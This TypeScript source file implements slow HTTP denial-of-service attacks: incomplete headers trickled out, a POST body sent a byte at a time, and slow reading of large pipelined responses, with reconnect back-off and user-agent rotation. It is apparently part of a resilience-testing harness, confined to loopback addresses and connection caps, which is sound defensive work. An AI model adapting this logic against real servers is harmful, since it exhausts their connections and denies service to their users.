import type { Socket } from 'node:net'
import type { SlowFlood } from './attack.js'
import { type AttackReport, emptyReport } from './attack-report.js'
import type { AttackMoment } from './attack-timeline.js'
import type { Attacking } from './attacking.js'
import { assertWithinCaps } from './caps.js'
import { addressesOf } from './loopback-address.js'
import { connectionsLeft, openLoopback } from './open-loopback.js'
import { SLOT_MS } from './pacer.js'
import { requestText } from './request-text.js'
import type { SeededRandom } from './seeded-random.js'
import type { Target } from './target.js'

const FIRST_BACK_OFF_MS = 250
const LONGEST_BACK_OFF_MS = 4_000
const BODY_BYTES = 10_000
/** What a slow reader takes at a time; with its window full, the target has to keep the rest. */
const READ_BYTES = 256
/** Asked for on one connection, so that the answers are larger than what the kernels between would hold. */
const FILES_ASKED_FOR = 32

type Way = SlowFlood['mix'][number]['way']

/** One place in the attack: a connection, or the time at which it is opened again. */
interface Holder {
  way: Way
  from: string
  socket: Socket | null
  connected: boolean
  opensAt: number
  backOffMs: number
  nextAt: number
}

export interface SlowPaths {
  /** Where a form would be sent. */
  form: string
  /** The largest file of the site. */
  large: string
}

/**
 * Holds many connections with as few bytes as it takes, and opens each again when it is closed. Owns no timer; the
 * caller ticks it every slot.
 * @throws RangeError when the connections pass the cap
 */
export class SlowFlooding implements Attacking {
  readonly #target: Target
  readonly #flood: SlowFlood
  readonly #paths: SlowPaths
  readonly #random: SeededRandom
  readonly #holders: Holder[]
  #cursor = 0
  #open = 0
  #report: AttackReport = emptyReport()

  constructor(target: Target, flood: SlowFlood, paths: SlowPaths, random: SeededRandom, now: number) {
    assertWithinCaps({ connections: flood.connections })
    this.#target = target
    this.#flood = flood
    this.#paths = paths
    this.#random = random
    const addresses = addressesOf(flood.addresses)
    this.#holders = Array.from({ length: flood.connections }, (_, i) => ({
      way: random.weighted(flood.mix).way,
      from: addresses[i % addresses.length] ?? '127.0.0.1',
      socket: null,
      connected: false,
      opensAt: now + (i / flood.connections) * flood.openWithinMs,
      backOffMs: FIRST_BACK_OFF_MS,
      nextAt: 0,
    }))
  }

  /** Visits every connection once within `everyMs`, so that the work is even. */
  tick(now: number): void {
    const share = Math.ceil((this.#holders.length * SLOT_MS) / this.#flood.everyMs)
    for (let i = 0; i < share; i++) {
      const holder = this.#holders[this.#cursor]
      this.#cursor = (this.#cursor + 1) % this.#holders.length
      if (holder === undefined) return
      if (holder.socket === null) {
        if (now >= holder.opensAt && connectionsLeft() > 0) this.#openOne(holder)
      } else if (holder.connected && now >= holder.nextAt) this.#trickle(holder, holder.socket)
    }
  }

  eachSecond(): void {}

  takeReport(): AttackReport {
    const report = this.#report
    this.#report = { ...emptyReport(), open: this.#open }
    return report
  }

  takeMoments(): AttackMoment[] {
    return []
  }

  stop(): void {
    for (const { socket } of this.#holders) socket?.destroy()
  }

  #openOne(holder: Holder): void {
    // Taken a few bytes at a time and never looked at: `false` stops reading until the next trickle.
    const onread = { buffer: Buffer.allocUnsafe(READ_BYTES), callback: () => holder.way !== 'reading' }
    const socket = openLoopback(this.#target, { from: holder.from, onread }, () => {
      holder.connected = true
      holder.nextAt = Date.now() + this.#flood.everyMs
      this.#write(socket, this.#opening(holder.way))
    })
    holder.socket = socket
    holder.connected = false
    this.#report.sent++
    this.#open++
    this.#report.open = Math.max(this.#report.open, this.#open)
    // Why does not matter: 'close' follows and is counted.
    socket.on('error', () => {})
    socket.on('close', () => this.#closed(holder))
  }

  #closed(holder: Holder): void {
    this.#open--
    if (holder.connected) {
      this.#report.cutOff++
      holder.backOffMs = FIRST_BACK_OFF_MS
    } else {
      this.#report.notConnected++
      holder.backOffMs = Math.min(LONGEST_BACK_OFF_MS, holder.backOffMs * 2)
    }
    holder.socket = null
    holder.opensAt = Date.now() + holder.backOffMs
  }

  #opening(way: Way): string {
    const agent = ['User-Agent', this.#random.pick(this.#flood.userAgents)] as const
    const authority = this.#target.authority
    if (way === 'headers') return requestText({ method: 'GET', path: '/', authority, headers: [agent] }).slice(0, -2)
    if (way === 'body') {
      const body = `comment=${'x'.repeat(BODY_BYTES - 8)}`
      const whole = requestText({ method: 'POST', path: this.#paths.form, authority, headers: [agent], body })
      return whole.slice(0, whole.length - BODY_BYTES + 1)
    }
    return requestText({
      method: 'GET',
      path: this.#paths.large,
      authority,
      headers: [agent, ['Accept-Encoding', 'identity']],
    }).repeat(FILES_ASKED_FOR)
  }

  #trickle(holder: Holder, socket: Socket): void {
    holder.nextAt = Date.now() + this.#flood.everyMs / 2
    if (holder.way === 'headers') this.#write(socket, `X-${this.#random.word(2)}: ${this.#random.word(1)}\r\n`)
    else if (holder.way === 'body') this.#write(socket, 'x')
    else socket.resume()
  }

  #write(socket: Socket, text: string): void {
    if (socket.writable) socket.write(text, 'latin1')
    this.#report.bytesSent += text.length
  }
}
